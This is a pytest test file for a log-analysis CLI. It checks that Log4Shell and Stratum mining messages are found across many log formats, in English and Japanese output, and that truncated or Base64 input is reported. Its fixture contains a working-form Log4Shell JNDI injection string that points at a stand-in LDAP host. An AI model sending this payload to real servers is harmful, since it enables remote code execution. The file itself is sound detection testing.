"""Every carrier through the command: a mining message and an attack in it are found, and what is cut is said."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from kanaria.app.commands.main import cli
from kanaria.formats.recognised import remark
from tests.formats_web.test_embedded import AROUND
from tests.sensor_formats.exports import DOCUMENTS, OBJECTS, TABLES, objects
from tests.sensor_formats.test_carriers import CARRIERS

MESSAGE = r"{\x22id\x22:1,\x22method\x22:\x22mining.subscribe\x22,\x22params\x22:[]}"
ATTACK = "GET /?x=${jndi:ldap://192.0.2.250/a} HTTP/1.1"
SENDERS = {MESSAGE: "198.51.100", ATTACK: "203.0.113"}
"""The network that either comes from; each carrier has an address in both."""
ANSWERS = {MESSAGE: 400, ATTACK: 200}
RULES = {"stratum_message_in_web_request": "198.51.100", "web_log4shell": "203.0.113"}

Make = Callable[[tuple[str, ...]], bytes]


def _document(make: Callable[[tuple[str, ...]], object], indent: int | None, lines: tuple[str, ...]) -> bytes:
    return json.dumps(make(lines), indent=indent).encode()


def _text(make: Callable[[tuple[str, ...]], str], lines: tuple[str, ...]) -> bytes:
    return make(lines).encode()


def _objects(name: str, lines: tuple[str, ...]) -> bytes:
    return objects(name, lines).encode()


def _shipped(make: Callable[[tuple[str, ...], str], bytes], lines: tuple[str, ...]) -> bytes:
    return make(lines, "nginx")


def _inside(make: Callable[[str], str], lines: tuple[str, ...]) -> bytes:
    return "".join(make(line) + "\n" for line in lines).encode()


_OF_LINES = {name: make for name, make in DOCUMENTS.items() if name != "har"}
WITH_AN_END: dict[str, Make] = {
    **{f"document: {name}": partial(_document, make, None) for name, make in _OF_LINES.items()},
    **{f"printed: {name}": partial(_document, make, 1) for name, make in _OF_LINES.items()},
    **{f"table: {name}": partial(_text, make) for name, make in TABLES.items()},
    "JSONP": lambda lines: f"show({json.dumps(DOCUMENTS['elasticsearch'](lines))});".encode(),
}
EACH: dict[str, Make] = {
    **WITH_AN_END,
    **{f"lines: {name}": partial(_objects, name) for name in OBJECTS},
    **{f"shipper: {name}": partial(_shipped, make) for name, make in CARRIERS.items()},
    **{f"inside: {name}": partial(_inside, make) for name, make in AROUND.items()},
    "UTF-32": lambda lines: "".join(f"{line}\n" for line in lines).encode("utf-32"),
}


def written(folder: Path, carriers: dict[str, Make], *requests: str, cut: int = 0) -> Path:
    """A file a carrier; its name is the last part of the addresses in it."""
    folder.mkdir()
    for place, make in enumerate(carriers.values(), 1):
        lines = tuple(
            f'{SENDERS[request]}.{place} - - [10/Jan/2026:09:00:00 +0000] "{request}" {ANSWERS[request]} 157 "-" "-"'
            for request in requests
        )
        data = make(lines)
        (folder / f"{place:03}").write_bytes(data[: len(data) - cut])
    return folder


def run(folder: Path, language: str, *options: str) -> tuple[int, str]:
    done = CliRunner().invoke(cli, ["analyze", str(folder), "--lang", language, *options], standalone_mode=False)
    return int(done.return_value), done.stdout


def senders(document: dict[str, Any], rule: str) -> set[str]:
    return {
        str(remote)
        for incident in document["incidents"]
        for finding in incident["findings"]
        if finding["rule"] == rule
        for remote in (finding["remote"], *incident["entities"]["remotes"])
    }


@pytest.mark.parametrize("language", ["en", "ja"])
def test_what_is_carried_is_found(tmp_path: Path, language: str) -> None:
    folder = written(tmp_path / "logs", EACH, MESSAGE, ATTACK)
    status, out = run(folder, language, "--format", "json")
    document = json.loads(out)
    accounts = {name: (one["rows"], one["unread"]) for name, one in zip(EACH, document["inputs"], strict=True)}
    assert accounts == dict.fromkeys(EACH, (2, 0))
    assert (document["coverage"]["records"], document["coverage"]["unread"]) == (2 * len(EACH), 0)
    for rule, network in RULES.items():
        heard = senders(document, rule)
        assert [name for place, name in enumerate(EACH, 1) if f"{network}.{place}" not in heard] == []
    again, text = run(folder, language, "--full")
    assert status == again == 1
    said = "".join(text.split())
    assert ("couldnotberead" if language == "en" else "読み取れ") not in said
    assert "CVE-2021-44228" in said
    assert "mining.subscribe" in said


@pytest.mark.parametrize("language", ["en", "ja"])
def test_what_is_cut_is_said_first(tmp_path: Path, language: str) -> None:
    folder = written(tmp_path / "logs", WITH_AN_END, MESSAGE, cut=4)
    status, out = run(folder, language, "--format", "json")
    document = json.loads(out)
    assert [name for name, one in zip(WITH_AN_END, document["inputs"], strict=True) if not one["unread"]] == []
    again, text = run(folder, language)
    assert status == again == 3
    said = "".join(text.split())
    share = f"{document['coverage']['unread']}of{document['coverage']['records']}"
    begins = "couldnotberead" if language == "en" else "読み取れず"
    assert begins in said[:80] and (language == "ja" or share in said[:80])


def test_what_is_in_base64_is_called_so() -> None:
    data = b"".join(make(("a line",)) for make in EACH.values())
    for written_so in (base64.b64encode(data), base64.encodebytes(data), base64.b64encode(data[:200])):
        words = remark(written_so)
        assert words is not None
        assert "Base64" in words.en and "Base64" in words.ja
    for other in (data, b"x" * 70 + b" y\n", (data[:32].hex() + "\n").encode() * 9, b"", b"A" * 99):
        assert remark(other) is None
